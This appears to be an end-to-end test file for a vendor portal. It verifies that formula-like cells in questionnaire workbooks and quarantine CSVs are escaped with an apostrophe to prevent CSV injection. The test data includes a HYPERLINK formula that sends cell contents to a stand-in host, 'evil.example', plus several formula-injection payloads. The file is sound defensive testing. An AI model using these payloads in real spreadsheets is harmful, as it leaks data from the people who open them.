"""Web downloads hold no live formula (issue 23, item 2; OWASP "CSV injection").

The probe: a vendor's questionnaire answer ``=HYPERLINK(...)`` was a live formula in
the analyst's ``questionnaire.xlsx``, and a vendor's CSV cells starting ``= @ + -``
came back as sent in ``quarantine.csv``. Both now go through the one safe-cell writer
(``fairshore.cells``): each such cell starts with an apostrophe.
"""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.e2e.web.conftest import sign_in

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the evidence")'
# OWASP CSV injection leaders: = + - @ and tab (a carriage return ends the row in the
# ingest's CSV reader, so it never reaches a cell: tests/unit/reporting covers it).
PAYLOADS = ("=1+1", "@SUM(1+1)", "+1+1", "-1+1", "\tcmd")


def test_a_vendors_formula_answer_is_text_in_the_questionnaire_workbook(
    app_client: TestClient,
) -> None:
    csrf = sign_in(app_client, "vendor@telco.example")
    saved = app_client.post(
        "/portal/vendors/northwind/questionnaire",
        data={"csrf_token": csrf, "q.wel.career-path": HYPERLINK},
        follow_redirects=False,
    )
    assert saved.status_code == 303, saved.text
    sign_in(app_client, "analyst@telco.example")
    download = app_client.get("/portal/vendors/northwind/questionnaire.xlsx")
    assert download.status_code == 200
    book = load_workbook(io.BytesIO(download.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    answer = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert answer.data_type != "f"
    assert answer.value == "'" + HYPERLINK
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_a_vendors_formula_cells_are_text_in_the_quarantine_csv(app_client: TestClient) -> None:
    csrf = sign_in(app_client, "vendor@telco.example")
    rows = "".join(
        f'"{p}",telco-mnl,employee,2025-05-01,2025-01-01\n'  # left before hired: quarantined
        for p in PAYLOADS
    )
    body = "agent_ref,engagement_id,employment_type,hired_on,left_on\n" + rows
    sent = app_client.post(
        "/uploads",
        data={"csrf_token": csrf, "engagement_id": "telco-mnl", "table": "agents"},
        files=[("files", ("agents.csv", body.encode(), "text/csv"))],
        follow_redirects=False,
    )
    assert sent.status_code == 303, sent.text
    sign_in(app_client, "analyst@telco.example")
    download = app_client.get(sent.headers["location"].split("?")[0] + "/quarantine.csv")
    assert download.status_code == 200
    table = list(csv.DictReader(io.StringIO(download.text, newline="")))
    assert sorted(r["agent_ref"] for r in table) == sorted("'" + p for p in PAYLOADS)
    for r in table:
        for value in r.values():
            assert not value or value[0] not in "=+-@\t\r", r
